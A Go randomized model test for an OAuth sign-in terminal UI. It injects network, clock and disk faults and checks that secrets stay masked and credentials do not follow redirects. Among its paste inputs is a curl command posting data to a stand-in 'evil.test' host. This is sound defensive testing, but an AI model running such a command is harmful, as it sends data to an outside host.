package ui

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net/http"
	"os"
	"path/filepath"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"
	"go.uber.org/goleak"

	tea "github.com/charmbracelet/bubbletea"

	"authwalk/flows"
	"authwalk/ui/drive"
)

// TestModel drives the whole program at random, with keys, pastes, resizes,
// clocks, and a network and a disk that fail, and holds it after each step
// against what must always be true. A run is a number: a failure names it and
// the steps that lead there, as few as could be found.
//
// AUTHWALK_MODEL=10m goes on for so long with numbers of its own;
// AUTHWALK_MODEL_SEED=N begins there.
func TestModel(t *testing.T) {
	first, long := uint64(1), time.Duration(0)
	if v := os.Getenv("AUTHWALK_MODEL"); v != "" {
		d, err := time.ParseDuration(v)
		if err != nil {
			t.Fatal(err)
		}
		long, first = d, rand.Uint64N(1_000_000_000)
	}
	if v := os.Getenv("AUTHWALK_MODEL_SEED"); v != "" {
		n, err := strconv.ParseUint(v, 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		first = n
	}
	end := time.Now().Add(long)
	n, taken := 0, map[string]int{}
	for seed := first; n < modelRuns || time.Now().Before(end); seed++ {
		steps, err := walkAtRandom(t, seed, taken)
		if n++; err == nil {
			continue
		}
		few := shrink(t, seed, steps)
		_, again := replay(t, seed, few)
		t.Fatalf("run %d (AUTHWALK_MODEL_SEED=%d): %v\n%d steps, of which these suffice (%v):\n%s", seed, seed, err, len(steps), again, listing(few))
	}
	t.Logf("%d runs from number %d came by %v", n, first, taken)
	if n < 40 {
		return
	}
	for _, place := range []string{"*ui.formScreen", "*ui.requestScreen", "*ui.claimsScreen", "*ui.apiScreen", "*ui.refreshScreen", "*ui.wireScreen", "*ui.dialog", "tokens", "faults", "late"} {
		if taken[place] == 0 {
			t.Errorf("no run came by %s: this test proves little", place)
		}
	}
}

// modelRuns is how many runs there are at least.
var modelRuns = 40

// step is one thing that happens.
type step struct {
	do string // key, type, paste, size, pass, wall, sleep, second, tick, suspend, network, answer, disk
	s  string
	n  int // of size: columns and rows; of the clocks: seconds; of network: for how many requests
	m  int
	on bool // and the next comes before all is quiet
}

func (s step) String() string {
	out := fmt.Sprintf("%s %q %d %d", s.do, s.s, s.n, s.m)
	if s.on {
		out += " (at once)"
	}
	return out
}

func listing(steps []step) string {
	var b strings.Builder
	for i, s := range steps {
		fmt.Fprintf(&b, "%4d  %v\n", i, s)
	}
	return b.String()
}

// world is the program and all around it.
type world struct {
	b    *bench
	d    *drive.Driver
	rng  *rand.Rand
	path string // of the profile file
	dir  string // where files are exported to

	mu      sync.Mutex
	fault   string
	left    int // requests that it is for
	gate    chan struct{}
	held    int // requests that wait for the gate
	used    int // requests with a password or a refresh token in them
	strayed []string
	secrets []string

	late int // answers that nobody waited for any more
	due  int // such requests that earlier steps may still send
}

// faults are what a network can do to a request.
var faults = []string{"gone", "reset", "timeout", "held", "held", "late", "late", "late", "html", "nasty", "empty", "cut", "redirect", "garbage", "throttled", "refused", "server error", "huge"}

// RoundTrip sends a request to the tenant, unless the network has a fault.
func (w *world) RoundTrip(r *http.Request) (*http.Response, error) {
	var body []byte
	if r.Body != nil {
		body, _ = io.ReadAll(r.Body)
		_ = r.Body.Close()
		r.Body = io.NopCloser(bytes.NewReader(body))
	}
	w.mu.Lock()
	text := string(body)
	if strings.Contains(text, "password=") || strings.Contains(text, "refresh_token=") || strings.Contains(text, "assertion=") && !strings.Contains(text, "mfa_token=") {
		w.used++
	}
	if r.URL.Host == "stray.test" && (len(body) > 0 || r.Header.Get("Authorization") != "") {
		w.strayed = append(w.strayed, r.Method+" "+r.URL.Redacted())
	}
	fault := ""
	if w.left > 0 {
		w.left--
		fault = w.fault
	}
	gate := w.gate
	if fault == "late" && strings.HasPrefix(r.URL.Path, "/.well-known/") {
		fault = "held" // it is fetched once for all who want it: they would wait, and not for the network
	}
	if fault == "held" || fault == "late" {
		w.held++
	}
	w.mu.Unlock()
	ctx := r.Context()
	reply := func(status int, kind, text string, more ...string) (*http.Response, error) {
		h := http.Header{"Content-Type": {kind}}
		for i := 0; i+1 < len(more); i += 2 {
			h.Set(more[i], more[i+1])
		}
		return &http.Response{StatusCode: status, Status: strconv.Itoa(status) + " x", Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Header: h, Body: io.NopCloser(strings.NewReader(text)), ContentLength: int64(len(text)), Request: r}, nil
	}
	switch fault {
	case "gone":
		return nil, &os.SyscallError{Syscall: "connect", Err: syscall.ECONNREFUSED}
	case "reset":
		return nil, &os.SyscallError{Syscall: "read", Err: syscall.ECONNRESET}
	case "timeout":
		return nil, context.DeadlineExceeded
	case "held", "late":
		if fault == "held" {
			select {
			case <-gate:
			case <-ctx.Done():
			}
		} else {
			<-gate // an answer that comes although it was cancelled
		}
		w.mu.Lock()
		w.held--
		w.mu.Unlock()
		if fault == "held" && ctx.Err() != nil {
			return nil, ctx.Err()
		}
		r = r.WithContext(context.WithoutCancel(ctx))
	case "html":
		return reply(200, "text/html", "<html><title>"+nasty+"</title><body>Sign in to the network</body>")
	case "nasty":
		return hostile{w.tenant()}.RoundTrip(r)
	case "empty":
		return reply(200, "application/json", "")
	case "cut":
		res, err := w.tenant().RoundTrip(r)
		if err == nil {
			all, _ := io.ReadAll(res.Body)
			res.Body = io.NopCloser(io.MultiReader(bytes.NewReader(all[:len(all)/2]), broken{}))
		}
		return res, err
	case "redirect":
		return reply(302, "text/plain", "", "Location", "https://stray.test/oauth/token")
	case "garbage":
		return reply(200, "application/json", `{"access_token":"`+strings.Repeat("Ab.-_~+/", 40)+`","token_type":["x"],"expires_in":-5e300,"scope":7,"id_token":"eyJhbGciOiJub25lIn0.e30.","error":{"a":1}}`)
	case "throttled":
		return reply(429, "application/json", `{"error":"too_many_requests","error_description":"Slow down "}`, "Retry-After", "7")
	case "refused":
		return reply(403, "application/json", `{"error":"invalid_grant","error_description":"Wrong email or password.\u001b[31m"}`)
	case "server error":
		return reply(503, "application/problem+json", `{"title":"unavailable"}`)
	case "huge":
		return reply(200, "application/json", strings.Repeat(`{"a":[1,`, 300_000))
	}
	res, err := w.tenant().RoundTrip(r)
	if err == nil && strings.HasSuffix(r.URL.Path, "/oauth/token") {
		all, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		res.Body = io.NopCloser(bytes.NewReader(all))
		w.learn(all)
	}
	return res, err
}

func (w *world) tenant() http.RoundTripper { return w.b }

// learn keeps what a token reply has that no masked frame may show, but for what
// the screens show of a token by decoding it.
func (w *world) learn(body []byte) {
	for _, name := range []string{"access_token", "refresh_token", "id_token", "mfa_token"} {
		_, rest, ok := strings.Cut(string(body), `"`+name+`":"`)
		v, _, _ := strings.Cut(rest, `"`)
		if !ok {
			continue
		}
		parts := strings.Split(v, ".")
		switch len(parts) {
		case 3: // JWS: header and payload can be read
			parts = parts[2:]
		case 5: // JWE: the header can
			parts = parts[1:]
		}
		w.mu.Lock()
		w.secrets = append(w.secrets, parts...)
		w.mu.Unlock()
	}
}

// broken is a connection that breaks off.
type broken struct{}

func (broken) Read([]byte) (int, error) { return 0, syscall.ECONNRESET }

// modelDemos are where runs begin; an empty one is the list with a profile file.
var modelDemos = []string{"", "", "works", "works", "works", "wrong-password", "mfa-otp", "mfa-push", "mfa-enrol", "mfa-sms", "rbac", "refresh-rotating", "refresh-expired", "short-lived", "no-audience", "rate-limited", "hs256-api"}

// newWorld opens the program.
func newWorld(t *testing.T, seed uint64) *world {
	w := &world{b: newBench(t), rng: rand.New(rand.NewPCG(seed, 7)), gate: make(chan struct{})}
	w.dir = w.b.opt.Dir
	w.b.opt.Scenario = pick(w.rng, modelDemos...)
	w.b.opt.ColorProfile = pick(w.rng, termenv.Ascii, termenv.TrueColor)
	w.b.opt.NewClient = func(cfg flows.Config) (*flows.Client, error) {
		return flows.NewClient(cfg, flows.ClientOptions{Clock: w.b.clock.clock(), Transport: w, Version: "test"})
	}
	w.b.opt.Demo = openedDemo{w.b, w}
	if w.b.opt.Scenario == "" {
		w.path = filepath.Join(t.TempDir(), "profiles.toml")
		cfg, _, err := w.b.Open(context.Background(), "works")
		if err != nil {
			t.Fatal(err)
		}
		w.keep(cfg)
		w.b.opt.ProfilesPath = w.path
		w.b.opt.Getenv = func(k string) string {
			return map[string]string{"MODEL_SECRET": cfg.ClientSecret.Reveal(), "MODEL_PASSWORD": cfg.Password.Reveal()}[k]
		}
		w.write(fmt.Sprintf("default = \"acme\"\n\n[profile.acme]\ndomain = \"works.demo.test\"\nclient_id = %q\nclient_secret = \"env:MODEL_SECRET\"\nusername = %q\npassword = \"env:MODEL_PASSWORD\"\naudience = %q\nscopes = [\"openid\", \"offline_access\", \"read:orders\"]\n", cfg.ClientID, cfg.Username, cfg.Audience))
	}
	w.d = drive.New(New(w.b.opt), 100, 30)
	w.d.Timeout = time.Minute
	return w
}

func (w *world) write(text string) { _ = os.WriteFile(w.path, []byte(text), 0o600) }

func (w *world) keep(cfg flows.Config) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, s := range []flows.Secret{cfg.Password, cfg.ClientSecret, cfg.APISecret} {
		if v := s.Reveal(); len(v) >= 8 {
			w.secrets = append(w.secrets, v)
		}
	}
}

// openedDemo is the demo whose secrets are known.
type openedDemo struct {
	*bench
	w *world
}

func (o openedDemo) Open(ctx context.Context, name string) (flows.Config, DemoTools, error) {
	cfg, tools, err := o.bench.Open(ctx, name)
	o.w.keep(cfg)
	return cfg, tools, err
}

// modelKeys are pressed beside those that the screens themselves name.
var modelKeys = strings.Fields("enter enter enter enter enter enter tab shift+tab esc esc up down left right j k home end pgup pgdown 1 2 3 4 5 6 w y n Y m M E L ? f1 ctrl+p ctrl+l ctrl+s ctrl+u / = u c s v r a x p e d f space backspace delete ctrl+a ctrl+e ctrl+k ctrl+w alt+b f5 ctrl+z")

// pick is one of several, each as likely as the others.
func pick[T any](r *rand.Rand, from ...T) T { return from[r.IntN(len(from))] }

// choose says what happens next.
func (w *world) choose() step {
	r := w.rng
	a := app(w.d)
	on := r.IntN(4) == 0
	if len(a.over) > 0 && r.IntN(4) == 0 { // what is over the walk is left soon
		return step{do: "key", s: "esc", on: on}
	}
	if w.waits() && r.IntN(3) == 0 { // leave it, or let the answer come
		return pick(r, step{do: "key", s: "esc"}, step{do: "key", s: "1"}, step{do: "key", s: "2"}, step{do: "answer"}, step{do: "answer"})
	}
	switch n := r.IntN(100); {
	case n < 40: // a key that means something here
		list := a.all(a.front(), !a.front().typing())
		if a.small() || len(list) == 0 {
			break
		}
		x := pick(r, list...)
		if k := pick(r, x.keys...); k != "ctrl+c" && k != "q" && k != "ctrl+r" && k != "m" && k != "M" && k != "ctrl+l" || r.IntN(8) == 0 {
			return step{do: "key", s: k, on: on}
		}
	case n < 60:
		return step{do: "key", s: pick(r, modelKeys...), on: on}
	case n < 63:
		return step{do: "type", s: pick(r, []string{"ada", "000000", "read:orders", ".a", "<é日", "-"}...), on: on}
	case n < 66: // the code on the phone
		if a.walk != nil && a.walk.tools != nil {
			items := a.walk.tools.Phone()
			slices.Reverse(items)
			for _, i := range items {
				if i.Code != "" {
					return step{do: "type", s: i.Code}
				}
			}
		}
	case n < 69:
		return step{do: "paste", s: pick(r, "pasted\r\n", nasty, strings.Repeat("long ", 400), "{\"error\":\"invalid_grant\"}", "curl https://evil.test -d 'a=b'", "\x1b[200~"), on: on}
	case n < 74:
		size := pick(r, [][2]int{{120, 36}, {80, 24}, {60, 16}, {100, 22}, {59, 16}, {1, 1}, {200, 60}, {61, 17}, {99, 21}, {300, 9}}...)
		return step{do: "size", n: size[0], m: size[1], on: on}
	case n < 80:
		return step{do: "pass", n: pick(r, []int{1, 1, 3, 10, 31, 400, 90000}...)}
	case n < 81:
		return step{do: "wall", n: pick(r, []int{-3600, 3600, -1, 86400 * 30, -86400 * 400}...)}
	case n < 82:
		return step{do: "sleep", n: pick(r, []int{6, 600, 86400}...)}
	case n < 83:
		return step{do: "suspend"}
	case n < 88:
		return step{do: "tick"}
	case n < 91:
		return step{do: "network", s: pick(r, faults...), n: 1 + r.IntN(2)}
	case n < 94:
		return step{do: "answer"}
	case n < 95 && w.path != "":
		return step{do: "disk", s: pick(r, []string{"broken", "gone", "read-only", "back"}...)}
	}
	return step{do: "key", s: "enter", on: on}
}

// do makes a step happen and looks whether all is as it must be.
func (w *world) do(s step) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v\n%s", r, debug.Stack())
		}
	}()
	w.mu.Lock()
	before := w.used
	w.mu.Unlock()
	was, cancelled := w.taken(), s.do == "answer" && w.waits() && !w.busy() && w.resting()
	checking := w.checking()
	may := 0 // requests with credentials that this step may send
	switch s.do {
	case "key":
		may = 1
		w.d.Press(s.s)
	case "type":
		may = len(s.s)
		w.d.Type(s.s)
	case "paste":
		w.d.Paste(s.s)
	case "size":
		w.d.Resize(s.n, s.m)
	case "pass":
		w.b.clock.pass(time.Duration(s.n) * time.Second)
		may = 1 // automatic refresh, if it is on
		w.d.Send(secondMsg{})
	case "wall":
		w.b.clock.step(time.Duration(s.n)*time.Second, 0)
		may = 1
		w.d.Send(secondMsg{})
	case "sleep": // the monotonic clock stands still
		w.b.clock.step(time.Duration(s.n)*time.Second, 0)
		w.d.Send(tea.SuspendMsg{})
		may = 1
		w.d.Send(secondMsg{})
	case "suspend":
		w.d.Send(tea.SuspendMsg{})
	case "tick":
		may = 1
		w.b.clock.pass(5 * time.Second)
		if c := app(w.d).waiting(); c != nil {
			w.d.Send(app(w.d).walk.request.due(c.step))
		}
	case "network":
		w.mu.Lock()
		w.fault, w.left = s.s, s.n
		w.mu.Unlock()
	case "answer":
		w.open()
	case "disk":
		switch s.s {
		case "broken":
			w.write("[profile.acme]\ndomain = 3\nclient_secret = \"hunter2hunter2\"\n[[")
		case "gone":
			_ = os.Remove(w.path)
		case "read-only":
			_ = os.Chmod(filepath.Dir(w.path), 0o500)
		case "back":
			_ = os.Chmod(filepath.Dir(w.path), 0o700)
		}
	}
	if !s.on {
		if err := w.quiet(); err != nil {
			return err
		}
	}
	w.mu.Lock()
	sent := w.used - before
	strayed := w.strayed
	w.mu.Unlock()
	if len(strayed) > 0 {
		return fmt.Errorf("credentials followed a redirect: %v", strayed)
	}
	if !checking && !w.checking() { // the check of a set-up sends several, and says so before
		if sent > may+w.due {
			return fmt.Errorf("%v sent %d requests with credentials in them", s, sent)
		}
		if w.due += may - sent; w.d.Idle() {
			w.due = 0
		}
	}
	if cancelled {
		w.late++
		if now := w.taken(); now != was {
			return fmt.Errorf("an answer that nobody waits for was taken: %s became %s", was, now)
		}
	}
	return w.look()
}

// taken is what the program has taken of all answers, but for the wire, the log
// and the time of the last reply, which tell what came, wanted or not.
func (w *world) taken() string {
	a := app(w.d)
	out := fmt.Sprint(a.at, len(a.over), a.news, w.generations())
	for _, name := range slices.Sorted(maps.Keys(a.walks)) {
		wk := a.walks[name]
		out += fmt.Sprintf(" %s %p %p %p %p", name, wk.request.verdict, wk.request.challenge, wk.api.answer, wk.checked)
	}
	return out
}

// busy tells whether the program waits for anything, on any walk.
func (w *world) busy() bool {
	a := app(w.d)
	for _, wk := range a.walks {
		if wk.busy() {
			return true
		}
		if c := wk.request.challenge; c != nil && c.wait.cancel != nil { // a poll is out
			return true
		}
	}
	return a.busy()
}

func (w *world) checking() bool {
	return slices.ContainsFunc(app(w.d).over, func(s screen) bool { _, ok := s.(*checkScreen); return ok })
}

// generations are the tokens of all walks.
func (w *world) generations() (out []string) {
	for _, wk := range app(w.d).walks {
		for _, s := range wk.sessions {
			for _, g := range s.Generations {
				out = append(out, fmt.Sprintf("%p", g))
			}
		}
	}
	slices.Sort(out)
	return out
}

// open lets the requests go that were held back.
func (w *world) open() {
	w.mu.Lock()
	close(w.gate)
	w.gate = make(chan struct{})
	w.mu.Unlock()
}

// waiting is the challenge whose step runs by itself after a while, if that
// while is all it waits for.
func (a *App) waiting() *challengeScreen {
	if a.walk == nil {
		return nil
	}
	if c := a.walk.request.challenge; c != nil && c.step.Wait > 0 && c.wait.running() && c.wait.cancel == nil {
		return c
	}
	return nil
}

// quiet waits until nothing is under way, or what is waits for the network.
func (w *world) quiet() error {
	end := time.Now().Add(w.d.Timeout)
	for {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Millisecond)
		err := w.d.Until(ctx, func(string) bool { return w.d.Quit() || w.resting() })
		cancel()
		if err == nil || w.d.Quit() {
			return nil
		}
		if !errors.Is(err, context.DeadlineExceeded) || time.Now().After(end) {
			return fmt.Errorf("it does not come to rest: %w", err)
		}
	}
}

// resting tells whether nothing is under way but what waits for the network.
func (w *world) resting() bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.d.UnderWay() <= w.held
}

func (w *world) faulty() bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.left > 0
}

func (w *world) waits() bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.held > 0
}

// look holds the frame against what is always true.
func (w *world) look() error {
	a := app(w.d)
	if w.d.Quit() || a.quitting {
		return nil
	}
	frame := w.d.Frame()
	width, height := w.d.Size()
	_, qr := a.front().(*qrScreen)
	if err := drive.Check(frame, width, height); err != nil && width > 0 && height > 0 && (!qr || a.small()) {
		return err
	}
	plain := ansi.Strip(frame)
	if !a.small() && !qr {
		if lines := strings.Split(plain, "\n"); !strings.HasPrefix(plain, "authwalk") || len(lines) != height && !a.locked {
			return fmt.Errorf("the header is lost, or %d lines are not %d:\n%s", len(lines), height, plain)
		}
	}
	if !a.masked || w.revealed() {
		return nil
	}
	return w.hides("the frame", plain)
}

// revealed tells whether a person has asked to see a field's secret.
func (w *world) revealed() bool {
	a := app(w.d)
	for _, wk := range a.walks {
		if slices.ContainsFunc(wk.form.form.fields, func(f *field) bool { return f.revealed }) {
			return true
		}
	}
	return false
}

// hides tells of a secret in a text, also of a piece of one that is cut or
// wrapped.
func (w *world) hides(what, text string) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	const piece = 12
	for _, s := range w.secrets {
		for at := 0; at == 0 || at+piece <= len(s); at += piece {
			if part := s[at:min(at+piece, len(s))]; len(part) >= 8 && strings.Contains(text, part) {
				return fmt.Errorf("%s has a secret, or a piece of one, %q:\n%s", what, part, text)
			}
		}
	}
	return nil
}

// close ends the program, and looks what it leaves behind.
func (w *world) close() error {
	w.open()
	stop := make(chan struct{})
	var gates sync.WaitGroup
	gates.Go(func() { // requests that are held back later than this
		for {
			select {
			case <-stop:
				return
			case <-time.After(time.Millisecond):
				w.open()
			}
		}
	})
	err := w.d.Close()
	close(stop)
	gates.Wait()
	if w.path != "" {
		_ = os.Chmod(filepath.Dir(w.path), 0o700)
	}
	if err != nil {
		return err
	}
	if err := goleak.Find(); err != nil {
		return err
	}
	files, _ := filepath.Glob(filepath.Join(w.dir, "*"))
	for _, f := range files {
		text, err := os.ReadFile(f)
		if err != nil {
			return err
		}
		if err := w.hides(f, string(text)); err != nil {
			return err
		}
	}
	return nil
}

// walkAtRandom makes a run and gives its steps, and what was wrong.
func walkAtRandom(t *testing.T, seed uint64, taken map[string]int) (steps []step, err error) {
	w := newWorld(t, seed)
	defer func() { err = errors.Join(err, w.close()) }()
	if err := w.quiet(); err != nil {
		return nil, err
	}
	ahead := w.rng.IntN(7) // so many steps of the walk go well
	for i := range 60 {
		s := step{do: "key", s: "enter"}
		if i >= ahead {
			s = w.choose()
		}
		steps = append(steps, s)
		if err := w.do(s); err != nil || w.d.Quit() {
			return steps, err
		}
		taken["steps"]++
		taken["late"] += w.late
		w.late = 0
		taken[fmt.Sprintf("%T", app(w.d).front())]++
		if len(w.generations()) > 0 {
			taken["tokens"]++
		}
		if w.faulty() {
			taken["faults"]++
		}
	}
	return steps, nil
}

// replay makes steps again.
func replay(t *testing.T, seed uint64, steps []step) (n int, err error) {
	w := newWorld(t, seed)
	defer func() { err = errors.Join(err, w.close()) }()
	if err := w.quiet(); err != nil {
		return 0, err
	}
	for i, s := range steps {
		if err := w.do(s); err != nil || w.d.Quit() {
			return i + 1, err
		}
	}
	return len(steps), nil
}

// shrink leaves steps out for as long as a run fails without them.
func shrink(t *testing.T, seed uint64, steps []step) []step {
	end := time.Now().Add(30 * time.Second)
	for size := len(steps) / 2; size > 0; {
		shorter := false
		for at := 0; at < len(steps) && time.Now().Before(end); {
			try := slices.Delete(slices.Clone(steps), at, min(at+size, len(steps)))
			if n, err := replay(t, seed, try); err != nil {
				steps, shorter = try[:max(n, min(1, len(try)))], true
			} else {
				at += size
			}
		}
		if !shorter || size > 1 {
			size /= 2
		}
	}
	return steps
}
